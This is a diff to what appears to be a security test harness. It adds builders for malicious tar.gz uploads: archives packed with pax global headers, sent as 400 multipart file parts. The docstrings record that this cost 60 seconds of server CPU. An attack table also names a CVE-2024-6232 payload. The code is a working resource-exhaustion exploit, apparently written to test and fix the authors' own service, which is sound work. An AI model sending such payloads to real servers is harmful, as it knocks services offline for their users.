@@ -150,6 +150,23 @@ def chained(kind: bytes = b"x", count: int = 1500) -> bytes:
     return gz(main_py(), chain, header(b"x"), end())
 
 
+def pax_globals(headers: int = 23, records: int = 13107) -> bytes:
+    """Nothing but pax global headers of the shortest records, `5 a=\n`, each parsed and
+    dropped: 23 headers of 64 KiB (13,107 records) fitted the bound one archive had (3.4 KB)."""
+    return gz(entry(b"g", b"5 a=\n" * records, b"g") * headers, end())
+
+
+def many_parts(parts: int = 400, headers: int = 23) -> list[tuple[str, tuple[str, bytes]]]:
+    """Issue 22's finding 4: a form of `main.py` and `parts` archives of `pax_globals`, for
+    `httpx`'s `files=`. Bounds were per archive and Starlette takes 1,000 file parts: 400 parts
+    (1.39 MB) cost 60 s of server CPU."""
+    archive = pax_globals(headers)
+    return [
+        ("files", ("main.py", MAIN)),
+        *(("files", (f"p{n}.tar.gz", archive)) for n in range(parts)),
+    ]
+
+
 ATTACKS = {
     "pax-digits-cve-2024-6232": pax_of_digits,
     "pax-shared-equals-global": lambda: pax_sharing_one_equals(b"g"),
